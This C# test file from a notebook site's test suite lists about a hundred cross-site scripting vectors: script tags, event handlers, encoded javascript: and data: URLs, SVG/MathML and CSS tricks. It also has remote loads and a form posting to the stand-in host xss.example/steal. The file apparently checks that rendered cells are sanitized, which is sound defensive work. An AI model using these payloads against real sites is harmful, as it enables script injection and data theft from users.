namespace LrNotebooks.Site.Tests;

/// <summary>
/// Well-known cross-site scripting vectors (in the style of the OWASP XSS filter evasion cheat sheet), each
/// of which either runs code or reaches the network when a browser renders it unsanitized. Every vector that
/// runs code calls <c>alert</c>, writes to the console or sets <c>window.__xss</c>, so a browser test can see it.
/// </summary>
internal static class HostileCorpus
{
    /// <summary>HTML as a cell could display it (<c>text/html</c>), or as raw HTML in a markdown cell.</summary>
    public static readonly string[] Html =
    [
        // script elements
        "<script>alert('XSS')</script>",
        "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
        "<script src=//xss.example/xss.js></script>",
        "<ScRiPt>window.__xss=1</sCrIpT>",
        "<script\x20type=\"text/javascript\">console.log('XSS')</script>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
        "<script type=\"module\">window.__xss=1</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        // event handlers
        "<img src=x onerror=alert('XSS')>",
        "<IMG SRC=# onmouseover=\"alert('XSS')\">",
        "<img src=x OnErRoR=\"window.__xss=1\">",
        "<body onload=alert('XSS')>",
        "<div onclick=\"alert(1)\" onmouseenter='console.log(\"XSS\")'>click</div>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"x\"\nonerror\n=\nalert(1)>",
        // javascript:, vbscript: and data: URLs, with case and entity encodings
        "<a href=\"javascript:alert('XSS')\">link</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">link</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">link</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">link</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">link</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">link</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">link</a>",
        "<a href=\" &#14;  javascript:alert(1)\">link</a>",
        "<a href=\"javascript&colon;alert(1)\">link</a>",
        "<a href=\"vbscript:msgbox('XSS')\">link</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">link</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">link</a>",
        "<img src=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"XSS\")`>",
        "<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<a href=\"/\\xss.example/\">link</a>",
        // SVG and MathML
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<svg><image href=\"https://xss.example/a.png\"/></svg>",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">click</maction></math>",
        "<math href=\"javascript:alert(1)\">click</math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        // style tricks
        "<div style=\"width: expression(alert('XSS'));\">x</div>",
        "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
        "<div style=\"background: url('https://xss.example/bg.png')\">x</div>",
        "<div style=\"background:url(//xss.example/bg.png)\">x</div>",
        "<div style=\"-moz-binding: url(https://xss.example/xss.xml#xss)\">x</div>",
        "<div style=\"behavior: url(xss.htc);\">x</div>",
        "<div style=\"xss:expr/*XSS*/ession(alert('XSS'))\">x</div>",
        "<div style=\"background:\\75\\72\\6c(https://xss.example/a.png)\">x</div>",
        "<div style=\"position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999\">overlay</div>",
        "<style>@import 'https://xss.example/xss.css';</style>",
        "<style>body { background: url(https://xss.example/bg.png) }</style>",
        "<style>li { list-style-image: url(\"javascript:alert('XSS')\"); }</style><ul><li>x</li></ul>",
        "<link rel=\"stylesheet\" href=\"https://xss.example/xss.css\">",
        "<link rel=\"import\" href=\"https://xss.example/xss.html\">",
        // frames, objects, embeds, base, meta, forms
        "<iframe src=\"https://xss.example/\"></iframe>",
        "<iframe src=\"javascript:alert('XSS');\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "<object data=\"https://xss.example/x.swf\" type=\"application/x-shockwave-flash\"></object>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed src=\"https://xss.example/x.swf\">",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<applet code=\"xss.class\"></applet>",
        "<base href=\"https://xss.example/\">",
        "<base href=\"javascript:alert(1)//\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://xss.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
        "<form action=\"https://xss.example/steal\"><input name=q><button>go</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<isindex type=image src=1 onerror=alert(1)>",
        // remote resources
        "<img src=\"https://xss.example/track.png\">",
        "<img src=\"//xss.example/track.png\">",
        "<img srcset=\"https://xss.example/a.png 1x, https://xss.example/b.png 2x\">",
        "<picture><source srcset=\"https://xss.example/a.png\"><img src=\"a.png\"></picture>",
        "<video poster=\"https://xss.example/p.png\"></video>",
        "<audio src=\"https://xss.example/a.mp3\" autoplay></audio>",
        "<table background=\"https://xss.example/bg.png\"><tr><td>x</td></tr></table>",
        "<input type=\"image\" src=\"https://xss.example/a.png\">",
        // parser confusion
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<a href=\"#\" id=\"Plotly\" onclick=alert(1)>clobber</a>",
        "<div data-target=\"x\" data-x=\"javascript:alert(1)\">data attributes</div>",
    ];

    /// <summary>Markdown (vectors beside the raw HTML above, which is also used as markdown).</summary>
    public static readonly string[] Markdown =
    [
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](javascript&#58;alert(1))",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click][ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![image](https://xss.example/track.png)",
        "![image](javascript:alert(1))",
        "![image](//xss.example/track.png)",
        "[text](https://example.org \"a title\" ){onclick=alert(1)}",
        "# Heading {onmouseover=alert(1)}",
        "Text with a footnote[^1].\n\n[^1]: <img src=x onerror=alert(1)>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "`<script>alert(1)</script>` is code, and so is this:\n\n```html\n<script>alert(1)</script>\n```",
    ];

    /// <summary>Stream text (printed by a cell): must reach the page as text, never as markup.</summary>
    public static readonly string[] Streams = [.. Html.Take(12)];
}
